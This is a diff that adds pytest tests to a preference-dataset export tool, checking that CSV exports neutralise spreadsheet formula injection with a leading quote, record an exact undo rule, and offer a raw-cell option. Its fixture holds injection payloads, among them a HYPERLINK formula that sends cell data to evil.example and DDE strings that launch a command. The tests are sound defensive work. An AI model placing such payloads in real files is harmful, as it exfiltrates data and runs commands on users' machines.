@@ -161,6 +161,97 @@ def test_a_csv_starts_with_a_byte_order_mark_only_when_asked(fixture_dataset, tm
     assert (bom / "pairs.csv").read_bytes() == b"\xef\xbb\xbf" + (plain / "pairs.csv").read_bytes()
 
 
+# ---------------------------------------------------------------------------------------------- CSV cells
+
+# What spreadsheets run as formulas (OWASP's list), and a text that already starts with a quote before one.
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=2*3", "'=已经加了引号"]
+CSV_TEXT = ["system", "prompt", "chosen", "rejected", "chosen_model", "rejected_model"]
+
+
+@pytest.fixture
+def hostile_dataset(db, tmp_path):
+    """One pair per formula, every text of it (system, query, both responses, both models) starting with it."""
+    rows = [{"domain": "数学", "conversations": [{"from": "system", "value": f}, {"from": "human", "value": f + " 问"}],
+             "chosen": {"from": "gpt", "value": f + " 好"}, "rejected": {"from": "gpt", "value": f + " 差"}}
+            for f in FORMULAS]
+    dataset = import_file(write_jsonl(tmp_path / "hostile.jsonl", rows), "hostile")
+    for pair in Pair.objects.filter(dataset=dataset).select_related("prompt", "chosen", "rejected"):
+        formula = pair.prompt.messages[0]["content"]
+        pair.chosen.model, pair.rejected.model = formula + " model-a", formula + " model-b"
+        pair.chosen.save(update_fields=["model"])
+        pair.rejected.save(update_fields=["model"])
+    return dataset
+
+
+def _csv_rows(path):
+    with open(path, encoding="utf-8", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+def _stored_texts():
+    """{query: the stored texts of its pair, in CSV_TEXT order}."""
+    out = {}
+    for pair in Pair.objects.select_related("prompt", "chosen", "rejected"):
+        system, query = pair.prompt.messages[0]["content"], pair.prompt.messages[-1]["content"]
+        out[query] = [system, query, pair.chosen.text, pair.rejected.text, pair.chosen.model, pair.rejected.model]
+    return out
+
+
+def _undo(cell, csv_cells):
+    """The undo rule exactly as the manifest states it."""
+    rest = cell.lstrip(csv_cells["prefix"])
+    if cell.startswith(csv_cells["prefix"]) and rest.startswith(tuple(csv_cells["formula_leads"])):
+        return cell[1:]
+    return cell
+
+
+def test_csv_cells_that_start_a_formula_get_a_leading_quote_in_every_text_column(hostile_dataset, tmp_path):
+    directory, exp = export(tmp_path, "hostile", "csv", "--with-meta")
+    rows, stored = _csv_rows(directory / "pairs.csv"), _stored_texts()
+    assert len(rows) == len(FORMULAS) == len(stored)
+    for row in rows:
+        original = stored[_undo(row["prompt"], exp.manifest["csv_cells"])]
+        for column, text in zip(CSV_TEXT, original):
+            assert row[column] == "'" + text, column
+    cells = exp.manifest["csv_cells"]
+    assert cells["neutralised"] is True and cells["cells_changed"] == len(FORMULAS) * len(CSV_TEXT)
+    assert cells["formula_leads"] == ["=", "+", "-", "@", "\t", "\r"]
+    assert all(_undo(row[c], cells) == text for row in rows
+               for c, text in zip(CSV_TEXT, stored[_undo(row["prompt"], cells)])), "the manifest's undo is exact"
+    card = (directory / "README.md").read_text(encoding="utf-8")
+    assert "## CSV cells" in card and "These cells are altered" in card and "JSONL or Parquet" in card
+
+
+def test_raw_csv_cells_are_exactly_the_stored_texts_and_reimport_as_the_same_pairs(hostile_dataset, tmp_path):
+    directory, exp = export(tmp_path, "hostile", "csv", "--with-meta", "--raw-csv")
+    stored = _stored_texts()
+    for row in _csv_rows(directory / "pairs.csv"):
+        assert [row[c] for c in CSV_TEXT] == stored[row["prompt"]]
+    assert exp.manifest["csv_cells"]["neutralised"] is False and "cells_changed" not in exp.manifest["csv_cells"]
+    assert "Cells are written exactly as stored" in (directory / "README.md").read_text(encoding="utf-8")
+    import_file(directory / "pairs.csv", "hostile-again")
+    assert pair_keys("hostile-again") == pair_keys("hostile")
+
+
+def test_numbers_and_minus_signs_after_the_start_of_a_cell_are_left_alone(fixture_dataset, tmp_path):
+    pair = Pair.objects.filter(dataset=fixture_dataset, domain="math").get()
+    pair.chosen.text = "x = -2+3，答案是 -1。"
+    pair.chosen.save(update_fields=["text"])
+    Pair.objects.filter(pk=pair.pk).update(chosen_score=3.0, rejected_score=5.5)
+    directory, exp = export(tmp_path, "golden", "csv", "--with-meta")
+    row = next(r for r in _csv_rows(directory / "pairs.csv") if r["domain"] == "math")
+    assert row["chosen"] == "x = -2+3，答案是 -1。" and row["rejected"] == "5"
+    assert row["panel_gap"] == "-2.5", "a number the export computed is no formula"
+    assert exp.manifest["csv_cells"]["cells_changed"] == 0
+
+
+def test_only_csv_exports_record_csv_cells(fixture_dataset, tmp_path):
+    directory, exp = export(tmp_path, "golden", "trl")
+    assert "csv_cells" not in exp.manifest and "neutralised_cells" not in exp.manifest["counts"]
+    assert "## CSV cells" not in (directory / "README.md").read_text(encoding="utf-8")
+
+
 # ---------------------------------------------------------------------------------------------- selection
 
 @pytest.fixture
@@ -430,6 +521,17 @@ def test_viewers_may_not_start_an_export_and_outsiders_do_not_see_the_dataset(te
     client.logout()
     assert _login(client, team.admin).get(url).status_code == 405
     assert not Export.objects.exists()
+
+
+def test_the_export_form_writes_safe_csv_cells_unless_raw_cells_are_ticked(team, client):
+    _login(client, team.reviewer)
+    page = client.get(reverse("dataset-detail", args=[team.dataset.pk])).content.decode()
+    assert 'name="raw_csv"' in page and "Raw CSV cells: for machine consumers, not spreadsheets" in page
+    assert 'name="raw_csv" checked' not in page
+    url = reverse("export-create", args=[team.dataset.pk])
+    for data in ({}, {"raw_csv": "on"}):
+        assert client.post(url, {"format": "csv", "statuses": ["pending", "kept"], **data}).status_code == 302
+    assert [e.params["raw_csv"] for e in Export.objects.order_by("pk")] == [False, True]
 
 
 def test_an_invalid_export_form_is_shown_again_with_the_problem(team, client):
